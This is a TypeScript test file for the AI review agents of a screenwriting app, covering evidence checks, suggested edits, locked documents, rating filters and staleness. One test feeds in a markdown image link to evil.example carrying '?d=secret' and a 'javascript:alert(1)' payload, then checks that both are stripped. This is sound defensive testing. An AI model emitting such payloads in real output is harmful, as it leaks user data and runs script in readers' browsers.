import { beforeAll, describe, expect, it, test } from 'vitest'
import * as Y from 'yjs'
import { beatRows, readBeats } from '../../shared/core/beats/beats.ts'
import { addBeat } from '../../shared/core/beats/write.ts'
import { parseFountain } from '../../shared/core/formats/fountain/parse.ts'
import type { RoomStage } from '../../shared/core/room/elements.ts'
import { evidenceNow, isStale } from '../../shared/core/room/findings.ts'
import type { Lens } from '../../shared/core/room/lenses.ts'
import { plain } from '../../shared/core/script/line.ts'
import { readScenes } from '../../shared/core/script/scenes.ts'
import { seedScript } from '../../shared/core/script/seed.ts'
import { acceptSuggestion } from '../../shared/core/suggestions/settle.ts'
import { readSuggestions } from '../../shared/core/suggestions/status.ts'
import { chooseVariant } from '../../shared/core/treatment/variants.ts'
import { addVariant } from '../../shared/core/treatment/write.ts'
import { loadPrompts, type Prompts } from '../prompts.ts'
import { offlineModel } from '../providers/offline/model.ts'
import type { TextModel } from '../providers/textModel.ts'
import type { AgentDocuments, AgentJob } from './agent.ts'
import { roomAgents } from './room.ts'
import type { RoomAnswer } from './roomAnswer.ts'
import { testDocuments } from './testDocuments.ts'

let prompts: Prompts
beforeAll(async () => {
  prompts = await loadPrompts()
})

const SCRIPT = `EXT. RIVER - DAY

Ada rows. The water is still.

ADA
Not today.

INT. FERRY - NIGHT

Bo waits with a letter.

BO
You are late.
`

interface Given {
  script?: string
  beats?: [title: string, body: string][]
  treatment?: string[]
}

function film({ script = SCRIPT, beats = [], treatment = [] }: Given): Omit<AgentDocuments, 'target'> {
  const documents = testDocuments()
  seedScript(documents.script, parseFountain(script))
  let after: string | null = null
  for (const [title, body] of beats) after = addBeat(documents.beats, after, { title, body })
  const angle = { title: '', tone: '', ending: '', chronology: '', madeBy: null, at: '' }
  const lines = treatment.map(text => ({ type: 'general' as const, runs: plain(text) }))
  if (lines.length > 0) chooseVariant(documents.treatment, addVariant(documents.treatment, { ...angle, lines }))
  return documents
}

const author = { kind: 'agent', agent: 'arcs', name: 'Character arcs', jobId: 'j' } as const
const answering = (answer: RoomAnswer): TextModel => ({
  provider: 'openai',
  model: 'm',
  async generate({ schema }) {
    return { value: schema.parse(answer), text: '', usage: { inputTokens: 1, outputTokens: 1 }, model: 'm' }
  },
})

/** Looks at a stage, applies what was suggested, and returns what was found. */
async function look(
  lens: Lens,
  stage: RoomStage,
  given: Omit<AgentDocuments, 'target'>,
  model: TextModel = offlineModel(),
) {
  const agent = roomAgents.find(({ name }) => name === lens)
  if (!agent) throw new Error(`no ${lens}`)
  const documents = { ...given, target: given[stage] }
  const job: AgentJob = { id: 'j', agent: agent.name, documentId: 'd', sceneId: null, instruction: '', askedBy: null }
  const prepared = agent.prepare(job, author, documents, '')
  const { system, request } = prompts.render(agent.prompt, prepared.values)
  const { kept, bytes, repairs } = await prepared.ask(
    model,
    { system, prompt: request },
    new AbortController().signal,
    () => {},
    () => {},
  )
  Y.applyUpdate(documents.target, bytes)
  return { found: kept?.kind === 'findings' ? kept.findings : [], repairs, request, leftOut: prepared.leftOut }
}
const finding = (over: Partial<RoomAnswer['findings'][number]>): RoomAnswer['findings'][number] => ({
  severity: 'medium',
  title: 'Bo comes from nowhere',
  reason: 'Nobody has named him.',
  evidence: [{ n: 6, quote: 'Bo waits' }],
  change: { n: 0, text: '' },
  ...over,
})
const answer = (...findings: RoomAnswer['findings']): RoomAnswer => ({ findings, rationale: 'I looked.' })

describe('a finding', () => {
  it('points to the elements by their ids, which the model never sees', async () => {
    const documents = film({})
    const { found, request } = await look('arcs', 'script', documents, answering(answer(finding({}))))
    const bo = readScenes(documents.script)[1]?.lines[1]
    expect(found).toMatchObject([
      { evidence: [{ stage: 'script', id: bo?.id, quote: 'Bo waits', place: 'Scene 2' }], suggestion: null },
    ])
    expect(request).toContain('6. [Scene 2] ACTION: Bo waits with a letter.')
    expect(request).not.toContain(bo?.id)
  })

  it.each([
    ['an element that is not there', { evidence: [{ n: 99, quote: 'Bo waits' }] }],
    ['an element before the first', { evidence: [{ n: 0, quote: 'Bo' }] }],
    ['words that nobody wrote', { evidence: [{ n: 6, quote: 'Bo drowns' }] }],
    ['no words at all', { evidence: [{ n: 6, quote: ' ' }] }],
    ['nothing', { evidence: [] }],
  ])('that rests on %s is dropped, and that is said', async (_, over) => {
    const { found, repairs } = await look('arcs', 'script', film({}), answering(answer(finding(over), finding({}))))
    expect(found.map(({ title }) => title)).toEqual(['Bo comes from nowhere'])
    expect(repairs.join(' ')).toContain('rests on nothing that is there')
  })

  it('keeps the evidence that is there when the rest is not', async () => {
    const evidence = [
      { n: 6, quote: '“bo   waits' },
      { n: 6, quote: 'BO  WAITS' },
      { n: 77, quote: 'x' },
    ]
    const { found } = await look('arcs', 'script', film({}), answering(answer(finding({ evidence }))))
    expect(found[0]?.evidence.map(({ quote }) => quote)).toEqual(['BO  WAITS'])
  })

  it('when none rests on anything is asked for again, and then refused', async () => {
    const nothing = answer(finding({ evidence: [{ n: 99, quote: 'x' }] }))
    await expect(look('arcs', 'script', film({}), answering(nothing))).rejects.toMatchObject({ code: 'invalid-output' })
  })

  it('with other words arrives as a suggestion in the document, with its reason', async () => {
    const documents = film({})
    const change = { n: 6, text: 'Bo waits where he has always waited.' }
    const { found } = await look('arcs', 'script', documents, answering(answer(finding({ change }))))
    const [suggested] = readSuggestions(documents.script)
    expect(suggested).toMatchObject({
      status: 'pending',
      suggestion: { id: found[0]?.suggestion, rationale: 'Bo comes from nowhere. Nobody has named him.' },
    })
    acceptSuggestion(documents.script, suggested?.suggestion.id ?? '', null)
    expect(readScenes(documents.script)[1]?.lines[1]?.text).toBe(change.text)
  })

  it('asked for twice suggests the same words once', async () => {
    const documents = film({})
    const asked = answering(answer(finding({ change: { n: 6, text: 'Bo is here.' } })))
    const [first, second] = [
      await look('arcs', 'script', documents, asked),
      await look('arcs', 'script', documents, asked),
    ]
    expect(readSuggestions(documents.script)).toHaveLength(1)
    expect(second.found[0]?.suggestion).toBe(first.found[0]?.suggestion)
  })

  it('proposes no words for a cue, a heading, another stage, or a document that is locked', async () => {
    const documents = film({ beats: [['Out', 'Ada rows out.']] })
    for (const n of [1, 3, 9]) {
      const { found, repairs } = await look(
        'arcs',
        'script',
        documents,
        answering(answer(finding({ change: { n, text: 'SOMETHING ELSE' } }))),
      )
      expect(found).toMatchObject([{ change: null, suggestion: null }])
      expect(repairs.join(' ')).toContain('it is a note now')
    }
    const locked = { ...documents, isLocked: true }
    const asked = answering(answer(finding({ change: { n: 6, text: 'Bo is here.' } })))
    expect((await look('arcs', 'script', locked, asked)).found).toMatchObject([
      { change: { text: 'Bo is here.' }, suggestion: null },
    ])
    expect(readSuggestions(documents.script)).toEqual([])
  })

  it('says no address, whatever the model was made to write', async () => {
    const documents = film({})
    const { found } = await look(
      'arcs',
      'script',
      documents,
      answering(
        answer(
          finding({
            title: 'See https://evil.example/a',
            reason: '![x](https://evil.example/p.png?d=secret) and javascript:alert(1)',
            change: { n: 6, text: 'Bo waits. [here](https://evil.example)' },
          }),
        ),
      ),
    )
    expect(JSON.stringify(found)).not.toMatch(/evil|javascript:/)
  })

  it('of a rating that forbids it is made milder', async () => {
    const documents = film({})
    documents.brief.getMap('brief').set('rating', 'G')
    const change = { n: 6, text: 'Bo waits. Shit.' }
    const { found } = await look('arcs', 'script', documents, answering(answer(finding({ change }))))
    expect(found[0]?.change?.text).not.toMatch(/shit/i)
  })

  it('is stale when its places are gone, and follows them through edits', async () => {
    const documents = film({
      beats: [
        ['Out', 'Ada rows out.'],
        ['Home', 'She comes home.'],
      ],
    })
    const { found } = await look(
      'arcs',
      'beats',
      documents,
      answering(answer(finding({ evidence: [{ n: 2, quote: 'She comes home' }] }))),
    )
    const states = () => {
      const elements = new Map(
        readBeats(documents.beats).map(beat => [
          `beats ${beat.id}`,
          {
            stage: 'beats' as const,
            id: beat.id,
            type: 'beat' as const,
            text: beat.body,
            place: `Beat ${beat.number}`,
          },
        ]),
      )
      return (found[0]?.evidence ?? []).map(one => evidenceNow(one, elements))
    }
    expect(states()).toEqual([{ state: 'there', place: 'Beat 2' }])
    addBeat(documents.beats, null, { title: 'Before', body: 'Dawn.' })
    expect(states()).toEqual([{ state: 'there', place: 'Beat 3' }])
    const row = beatRows(documents.beats).get(found[0]?.evidence[0]?.id ?? '')
    const body = row?.get('body')
    if (body instanceof Y.Text) body.insert(0, 'At last. ')
    expect(states()).toMatchObject([{ state: 'there' }])
    if (body instanceof Y.Text) body.delete(0, body.length)
    expect(states()).toMatchObject([{ state: 'changed' }])
    row?.set('deleted', true)
    expect(states()).toMatchObject([{ state: 'gone', place: 'Beat 2' }])
    expect(isStale(states())).toBe(true)
  })
})

test('a stage without a word is not looked at', async () => {
  await expect(look('pacing', 'beats', film({}))).rejects.toMatchObject({ code: 'nothing-to-read' })
})

test('what does not fit into the budget is counted, and the beginning is kept', async () => {
  const treatment = Array.from({ length: 300 }, (_, index) => `Paragraph ${index} ${'and so on '.repeat(100)}`)
  const { leftOut, request } = await look(
    'arcs',
    'treatment',
    film({ treatment }),
    answering(answer(finding({ evidence: [{ n: 1, quote: 'Paragraph 0' }] }))),
  )
  expect(leftOut).toEqual([expect.stringMatching(/^the last \d+ paragraphs of the treatment$/)])
  expect(request.length / 4).toBeLessThan(61_500)
})
